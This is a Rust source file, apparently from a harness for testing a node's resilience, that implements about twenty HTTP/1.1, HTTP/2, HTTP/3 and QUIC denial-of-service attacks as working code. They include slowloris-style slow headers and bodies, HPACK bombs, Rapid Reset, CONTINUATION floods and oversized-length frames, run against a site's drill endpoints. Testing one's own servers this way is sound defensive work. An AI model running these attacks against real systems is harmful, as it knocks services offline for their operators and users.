//! One attack of each kind, from its beginning to its end.

use std::sync::atomic::Ordering::Relaxed;
use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use quinn::Endpoint;
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpStream, UdpSocket};
use tokio::time::{sleep, timeout};
use tokio_rustls::client::TlsStream;

use super::ends::{Each, Once, answered, drips, ended, floods, reset, together};
use super::frames::*;
use super::{Attack, DRIP, Frame, HOSTS, World, host};
use crate::harness::http::Speaks;

/// More than anybody takes.
const GIB: u64 = 1 << 30;

impl World {
    fn endpoint(&self, number: u64) -> &Endpoint {
        &self.endpoints[(number % HOSTS) as usize]
    }

    pub(super) fn begun(&self, first: &mut bool) {
        if std::mem::take(first) {
            self.tally.begun.fetch_add(1, Relaxed);
        }
    }

    /// One attack from its beginning to its end, which the node makes.
    pub(super) async fn strike(&self, number: u64, first: &mut bool) -> Result<()> {
        let (site, key) = (&self.order.site, &self.order.key);
        let head = |method: &str, path: &str| format!("{method} {path} HTTP/1.1\r\nHost: {}\r\nX-API-Key: {key}\r\n", site.authority());
        match self.order.attack {
            Attack::SlowHandshake => {
                let mut stream = site.tcp(Some(host(number))).await?;
                // A record of a ClientHello that is on its way.
                stream.write_all(&[0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]).await?;
                self.begun(first);
                drips(stream, 0x5a).await
            }
            Attack::SlowHead(Speaks::Http1) => {
                let mut stream = site.stream_from(&self.http1, Some(host(number))).await?;
                stream.write_all(format!("{}X-Slow: ", head("GET", "/drill/echo")).as_bytes()).await?;
                self.begun(first);
                drips(stream, b'a').await
            }
            Attack::SlowHead(Speaks::Http2) => {
                let mut stream = self.http2(number).await?;
                // HEADERS without its end, of 16,000 bytes.
                stream.write_all(&[0x00, 0x3e, 0x80, 0x01, 0x00, 0, 0, 0, 1, 0x82, 0x87]).await?;
                self.begun(first);
                drips(stream, 0x84).await
            }
            Attack::SlowHead(Speaks::Http3) => {
                let (connection, mut stream) = self.http3(number).await?;
                stream.write_all(&[0x01, 0x44, 0x00, 0x00, 0x00]).await?;
                self.begun(first);
                while stream.write_all(&[0xd1]).await.is_ok() {
                    sleep(DRIP).await;
                }
                gone(&connection);
                Ok(())
            }
            Attack::SlowBody(Speaks::Http1) => {
                let mut stream = site.stream_from(&self.http1, Some(host(number))).await?;
                let head = format!("{}Content-Type: application/json\r\nContent-Length: 50000\r\n\r\n{{", head("POST", "/drill/echo"));
                stream.write_all(head.as_bytes()).await?;
                self.begun(first);
                ended(stream).await
            }
            Attack::SlowBody(Speaks::Http2) => {
                let mut stream = self.http2(number).await?;
                let fields = [self.fields(POST, "/drill/echo"), literal("content-type", "application/json")].concat();
                stream.write_all(&frame(HEADERS, END_HEADERS, 1, &fields)).await?;
                stream.write_all(&frame(DATA, 0, 1, b"{")).await?;
                self.begun(first);
                answered(stream).await
            }
            Attack::SlowBody(Speaks::Http3) => {
                let (connection, mut stream) = self.http3(number).await?;
                let fields = [self.qpack("POST", "/drill/echo"), qpack_literal("content-type", "application/json")].concat();
                stream.write_all(&h3_frame(0x01, &fields)).await?;
                stream.write_all(&[0x00, 0x40, 0x64, b'{']).await?;
                self.begun(first);
                // It is told to stop, or its connection ends.
                let _ = timeout(Duration::from_secs(30), stream.stopped()).await;
                gone(&connection);
                Ok(())
            }
            Attack::LargeBody(Speaks::Http1) => {
                let mut stream = site.stream_from(&self.http1, Some(host(number))).await?;
                self.begun(first);
                let (length, part) = if says_it(number) {
                    (format!("Content-Length: {GIB}"), vec![b' '; 16_000])
                } else {
                    ("Transfer-Encoding: chunked".to_owned(), [&b"3e80\r\n"[..], &[b' '; 16_000], b"\r\n"].concat())
                };
                let head = format!("{}Content-Type: application/json\r\n{length}\r\n\r\n", head("POST", "/drill/echo"));
                stream.write_all(head.as_bytes()).await?;
                floods(stream, Each { next: 1, make: move |_| part.clone() }).await
            }
            Attack::LargeBody(Speaks::Http2) => {
                let mut stream = self.http2(number).await?;
                self.begun(first);
                let mut fields = [self.fields(POST, "/drill/echo"), literal("content-type", "application/json")].concat();
                if says_it(number) {
                    fields.extend(literal("content-length", &GIB.to_string()));
                }
                stream.write_all(&frame(HEADERS, END_HEADERS, 1, &fields)).await?;
                // As much as anybody may send before the node has said a word (RFC 9113 §6.9.2).
                for _ in 0..4 {
                    stream.write_all(&frame(DATA, 0, 1, &[b' '; 16_000])).await?;
                }
                answered(stream).await
            }
            Attack::LargeBody(Speaks::Http3) => {
                let (connection, mut stream) = self.http3(number).await?;
                self.begun(first);
                let mut fields = [self.qpack("POST", "/drill/echo"), qpack_literal("content-type", "application/json")].concat();
                if says_it(number) {
                    fields.extend(qpack_literal("content-length", &GIB.to_string()));
                }
                stream.write_all(&h3_frame(0x01, &fields)).await?;
                let part = h3_frame(0x00, &[b' '; 16_000]);
                // Until it is told to stop, or its connection ends.
                let _ = timeout(Duration::from_secs(30), async { while stream.write_all(&part).await.is_ok() {} }).await;
                gone(&connection);
                Ok(())
            }
            Attack::SlowReader(Speaks::Http3) => {
                let connection = site.quic(self.endpoint(number), &self.http3).await?;
                let (mut send, receive) = connection.open_bi().await?;
                send.write_all(&h3_frame(0x01, &self.qpack("GET", "/drill/large?n=8388608"))).await?;
                send.finish()?;
                self.begun(first);
                connection.closed().await;
                drop(receive);
                Ok(())
            }
            Attack::SlowReader(speaks) => {
                let stream = if speaks == Speaks::Http1 {
                    let mut stream = site.stream_from(&self.http1, Some(host(number))).await?;
                    stream.write_all(format!("{}\r\n", head("GET", "/drill/large?n=8388608")).as_bytes()).await?;
                    stream
                } else {
                    let mut stream = self.http2(number).await?;
                    // Its windows are as large as they can be: only the socket is not read.
                    stream.write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff])).await?;
                    stream.write_all(&frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes())).await?;
                    stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &self.fields(GET, "/drill/large?n=8388608"))).await?;
                    stream
                };
                self.begun(first);
                reset(&stream.into_inner().0).await
            }
            // Those over QUIC come last, as they are ended first: after half a minute, whatever is said below HTTP.
            Attack::Idle => match number * 3 / self.order.amount {
                0 => {
                    let stream = site.stream_from(&self.http1, Some(host(number))).await?;
                    self.begun(first);
                    ended(stream).await
                }
                1 => {
                    let stream = self.http2(number).await?;
                    self.begun(first);
                    ended(stream).await
                }
                _ => {
                    let connection = site.quic(self.endpoint(number), &self.http3).await?;
                    self.begun(first);
                    connection.closed().await;
                    Ok(())
                }
            },
            Attack::LongField(Speaks::Http1) => {
                let mut stream = site.stream_from(&self.http1, Some(host(number))).await?;
                self.begun(first);
                let bomb = format!("{}X-Long: {}\r\n\r\n", head("GET", "/drill/echo"), "a".repeat(1 << 20));
                // It is ended while it still sends.
                let _ = stream.write_all(bomb.as_bytes()).await;
                ended(stream).await
            }
            Attack::LongField(Speaks::Http2) => {
                let stream = self.http2(number).await?;
                self.begun(first);
                let fields = [self.fields(GET, "/drill/echo"), literal("x-long", &"a".repeat(1 << 20))].concat();
                let mut parts = fields.chunks(16_384).peekable();
                let mut kind = HEADERS;
                let mut frames = Vec::new();
                while let Some(part) = parts.next() {
                    let flags = if parts.peek().is_none() { END_HEADERS } else { 0 } | if kind == HEADERS { END_STREAM } else { 0 };
                    frames.extend(frame(kind, flags, 1, part));
                    kind = CONTINUATION;
                }
                floods(stream, Once(frames)).await
            }
            Attack::LongField(Speaks::Http3) => {
                let (connection, mut stream) = self.http3(number).await?;
                self.begun(first);
                let fields = [self.qpack("GET", "/drill/echo"), qpack_literal("x-long", &"a".repeat(1 << 20))].concat();
                let _ = stream.write_all(&h3_frame(0x01, &fields)).await;
                let _ = timeout(Duration::from_secs(10), connection.closed()).await;
                Ok(())
            }
            Attack::ManyFields => {
                let mut stream = site.stream_from(&self.http1, Some(host(number))).await?;
                self.begun(first);
                let bomb = format!("{}{}\r\n", head("GET", "/drill/echo"), "a: b\r\n".repeat(100_000));
                let _ = stream.write_all(bomb.as_bytes()).await;
                ended(stream).await
            }
            Attack::HpackBomb => {
                let stream = self.http2(number).await?;
                self.begun(first);
                // Into the table: with incremental indexing, entry 62 from then on (RFC 7541 §2.3.3, §6.2.1).
                let mut fields = self.fields(GET, "/drill/echo");
                fields.push(0x40);
                fields.extend(hpack_text("x-bomb"));
                fields.extend(hpack_text(&"a".repeat(3_900)));
                fields.extend(std::iter::repeat_n(0xbe, 11_000));
                floods(stream, Each { next: 1, make: move |stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields) }).await
            }
            Attack::RapidReset => {
                let stream = self.http2(number).await?;
                self.begun(first);
                let fields = self.fields(GET, "/drill/slow?n=1000");
                let make = move |stream| {
                    let cancel = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                    [frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields), cancel].concat()
                };
                floods(stream, Each { next: 1, make }).await
            }
            Attack::Continuation => {
                let mut stream = self.http2(number).await?;
                self.begun(first);
                stream.write_all(&frame(HEADERS, 0, 1, &self.fields(GET, "/drill/echo"))).await?;
                // Half of them with fields, half with nothing at all.
                let part = if number.is_multiple_of(2) { literal("x-more", &"a".repeat(8_000)) } else { Vec::new() };
                let frames = frame(CONTINUATION, 0, 1, &part);
                floods(stream, Each { next: 1, make: move |_| frames.clone() }).await
            }
            Attack::EmptyFrames => {
                let mut stream = self.http2(number).await?;
                self.begun(first);
                let frames = match number % 3 {
                    0 => {
                        stream.write_all(&frame(HEADERS, END_HEADERS, 1, &self.fields(POST, "/drill/echo"))).await?;
                        frame(DATA, 0, 1, &[])
                    }
                    1 => frame(SETTINGS, 0, 0, &[]),
                    _ => frame(PING, 0, 0, &[0; 8]),
                }
                .repeat(100);
                floods(stream, Each { next: 1, make: move |_| frames.clone() }).await
            }
            Attack::Announce(announced) => {
                let connection = site.quic(self.endpoint(number), &self.http3).await?;
                control(&connection).await?;
                self.begun(first);
                let kind = match announced {
                    Frame::Headers => 0x01,
                    Frame::Unknown => 0x21,
                };
                let one = async || -> Result<()> {
                    let (mut send, _receive) = connection.open_bi().await?;
                    // The length as a varint of 8 bytes (RFC 9000 §16).
                    send.write_all(&[&[kind][..], &(GIB | 0xc0 << 56).to_be_bytes()].concat()).await?;
                    // All that is taken.
                    let block = Bytes::from(vec![0_u8; 16 * 1024]);
                    for _ in 0..1024 {
                        send.write_chunk(block.clone()).await?;
                    }
                    Ok(())
                };
                let streams = together((0..256).map(|_| one()));
                tokio::select! {
                    _ = connection.closed() => {}
                    () = streams => {}
                    () = sleep(Duration::from_secs(30)) => {}
                }
                Ok(())
            }
            Attack::HalfOpen => {
                // A handshake is begun with a socket of our own, and its first packets are sent on from a new port.
                let trap = UdpSocket::bind((site.address.ip(), 0)).await?;
                let config = crate::harness::site::quic_config(&self.http3);
                let connecting = self.endpoint(number).connect_with(config, trap.local_addr()?, &site.name)?;
                let mut packet = [0; 2048];
                let socket = UdpSocket::bind((host(number), 0)).await?;
                // The ClientHello's keys fill more than one.
                for _ in 0..2 {
                    if let Ok(got) = timeout(Duration::from_millis(200), trap.recv(&mut packet)).await {
                        socket.send_to(&packet[..got?], site.address).await?;
                    }
                }
                drop(connecting);
                self.begun(first);
                Ok(())
            }
            Attack::Guesses => self.guess(number, first).await,
        }
    }

    /// An HTTP/2 connection that has been greeted.
    pub(super) async fn http2(&self, number: u64) -> Result<TlsStream<TcpStream>> {
        let mut stream = self.order.site.stream_from(&self.http2, Some(host(number))).await?;
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
        Ok(stream)
    }

    /// An HTTP/3 connection that has been greeted, and the sending half of a request's stream.
    async fn http3(&self, number: u64) -> Result<(quinn::Connection, quinn::SendStream)> {
        let connection = self.order.site.quic(self.endpoint(number), &self.http3).await?;
        control(&connection).await?;
        let (send, mut receive) = connection.open_bi().await?;
        tokio::spawn(async move { while let Ok(Some(_)) = receive.read_chunk(64 * 1024, true).await {} });
        Ok((connection, send))
    }

    /// A request's fields in HPACK, without the use of any table.
    pub(super) fn fields(&self, method: u8, path: &str) -> Vec<u8> {
        let mut fields = vec![method, 0x87, 0x04];
        fields.extend(hpack_text(path));
        fields.push(0x01);
        fields.extend(hpack_text(&self.order.site.authority()));
        fields.extend(literal("x-api-key", &self.order.key));
        fields
    }

    /// A request's fields in QPACK, without the use of any table (RFC 9204 §4.5).
    fn qpack(&self, method: &str, path: &str) -> Vec<u8> {
        let mut fields = vec![0, 0];
        let authority = self.order.site.authority();
        for (name, value) in [(":method", method), (":scheme", "https"), (":authority", &authority), (":path", path)] {
            fields.extend(qpack_literal(name, value));
        }
        fields.extend(qpack_literal("x-api-key", &self.order.key));
        fields
    }
}

/// Whether the attacker of this number tells beforehand how much is to come: every other does.
fn says_it(number: u64) -> bool {
    number.is_multiple_of(2)
}

/// Ends a connection, whoever else holds it: left alone it would be an idle one for half a minute, which is another attack.
fn gone(connection: &quinn::Connection) {
    connection.close(0_u32.into(), b"");
}

/// Opens the control stream, without which a peer need not talk to us (RFC 9114 §6.2.1), and leaves it open.
async fn control(connection: &quinn::Connection) -> Result<()> {
    let mut control = connection.open_uni().await?;
    control.write_all(&[0x00, 0x04, 0x00]).await?;
    let held = connection.clone();
    tokio::spawn(async move {
        held.closed().await;
        drop(control);
    });
    Ok(())
}
